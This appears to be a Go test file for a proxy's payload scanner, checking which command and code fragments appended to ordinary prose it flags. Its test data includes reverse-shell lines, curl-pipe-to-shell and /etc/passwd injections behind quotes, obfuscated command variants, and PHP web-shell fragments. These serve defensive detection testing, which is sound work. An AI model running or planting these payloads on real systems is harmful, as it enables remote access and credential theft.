package payload_test

import (
	"strings"
	"testing"

	"github.com/outrider-mesh/outrider/proxy/inspect/payload"
	"github.com/outrider-mesh/outrider/proxy/inspect/payload/clue"
)

// prose is what somebody writes in several lines.
const prose = "Hello,\n\nthe report of last week is attached. We looked at all three of the shops and\n" +
	"found nothing that would explain the numbers; the till of the second one was closed\n" +
	"for two days, which Ann had announced. Could you have a look at the figures by Friday?\n" +
	"If they are fine I'll send them on to the accountants, who asked for them on Monday.\n"

// In a text of several lines commands are taken for what it is about, unless they stand
// as nobody writes them.
func TestCommandsInTextsOfSeveralLines(t *testing.T) {
	cases := []struct {
		name, text string
		want       int
	}{
		{"nothing", prose, 0},
		{"a shell for another machine", prose + "bash -i >& /dev/tcp/192.0.2.7/80 0>&1\n", clue.Strong},
		{"one behind a quote", prose + "x'; nc -e /bin/sh 192.0.2.7 80 #\n", clue.Strong},
		{"one in a block of code", prose + "```\nbash -i >& /dev/tcp/192.0.2.7/80 0>&1\n```\n", clue.Hint},
		{"one in backticks", prose + "The log has `bash -i >& /dev/tcp/192.0.2.7/80` in it.\n", clue.Hint},
		{"one that is indented", prose + "\n    bash -i >& /dev/tcp/192.0.2.7/80 0>&1\n", clue.Hint},
		{"behind a quote what is loaded is run", prose + "\";curl http://x.example/a|sh;\"\n", clue.Strong},
		{"a line that begins with a separator", prose + ";curl http://x.example/a|sh\n", clue.Strong},
		{"a secret behind a quote", "a';cat /etc/passwd;'\n" + prose, clue.Strong},
		{"the same in a block of code", prose + "```\nx';cat /etc/passwd;'\n```\n", clue.Hint},
		{"white space makes no text", strings.Repeat("\n", 300) + ";cat /etc/passwd", clue.Strong},
		{"how a program is installed", prose + "curl -fsSL https://x.example/install.sh | sh\n", 0},
		{"a script", prose + "set -e; apt-get update\necho \"done\" | tee log; curl https://x.example/a\n", 0},
		{"a variable", prose + "A=\"x\"; curl https://x.example/a\n", 0},
		{"a prompt", prose + "$ echo \"x\" | curl -d @- https://x.example/a\n", 0},
		{"rows of a table", prose + "| cat | https://x.example |\n|---|---|\n", 0},
		{"lines that go on", prose + "make build\n  && curl https://x.example/a\n  | sh\n", 0},
		{"a remark", prose + "; see https://x.example/a\n; find out more\n", 0},
		{"code that a request gives", prose + "<? @eval($_POST['x']); ?>\n", clue.Strong},
		{"the same without a tag", prose + "x; @eval($_POST['x']);\n", clue.Strong},
		{"the same in a block of code", prose + "```php\neval($_POST['x']);\n```\n", clue.Suspicious},
	}
	var s payload.Scanner
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			found := s.Scan(c.text, payload.Member)
			if got := clue.Weight(found); got != c.want && (c.want < clue.Strong || got < c.want) {
				t.Errorf("weighs %d, want %d: %s", got, c.want, names(found))
			}
		})
	}
	if len(cases) < 21 {
		t.Errorf("only %d cases", len(cases))
	}
}

// Padding doesn't hide a command whose words are taken apart.
func TestDisguisedCommandsInLongValues(t *testing.T) {
	var s payload.Scanner
	padding := strings.Repeat("all is well ", 500)
	for _, text := range []string{";c'a't /etc/hosts", ";cat${IFS}/etc/hosts", "|w''get x.example", "less /etc/pass[w]d", "x)(cn=*"} {
		if found := s.Scan(padding[:3000]+text, payload.Argument); clue.Weight(found) < clue.Strong {
			t.Errorf("%q: %s", text, names(found))
		}
	}
}

// Code of PHP is no sample of a manual where it runs what a request names, in whatever way
// it comes by the name.
func TestSamplesRunNothing(t *testing.T) {
	comment := "// " + strings.Repeat("a picture of our last holiday, ", 10) + "\n"
	var s payload.Scanner
	cases := []string{
		"$h = getallheaders();\n$h['X-F']($h['X-A']);", "$h = getallheaders();\n($h['X-F'])($h['X-A']);", "$f = strrev('metsys');\n$f ('id');",
		"$f = strrev('metsys');\n$f/* */('id');", "array_walk($a, strrev('metsys'));", "$o->{'a'}('id');", "$o->$f('id');", "A::$f('id');",
		"array_walk($a, filter_input(INPUT_GET, 'f'));", "copy('https://x.example/a', 'a.php');", "ob_start(strrev('metsys'));",
	}
	for _, code := range cases {
		if found := s.Scan("<?php\n\n"+comment+code+"\n", payload.Member); clue.Weight(found) < clue.Strong {
			t.Errorf("%q: %s", code, names(found))
		}
	}
	if len(cases) < 11 {
		t.Errorf("only %d cases", len(cases))
	}
}
